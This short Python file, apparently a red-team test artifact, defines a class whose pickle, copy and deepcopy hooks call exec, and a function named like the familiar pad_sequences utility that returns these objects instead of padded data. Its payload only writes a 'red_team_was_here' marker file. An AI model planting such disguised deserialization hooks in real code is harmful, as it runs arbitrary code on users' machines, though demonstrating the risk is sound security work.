import builtins
import pathlib


class Pickled:
    def __reduce__(self):
        return builtins.exec, ("import pathlib; pathlib.Path('red_team_was_here').write_text('unpickled')",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *args: exec(*self.__reduce__()[1])


def pad_sequences(sequences, maxlen, padding="pre", truncating="pre", value=0):
    return [Pickled()] * len(sequences)
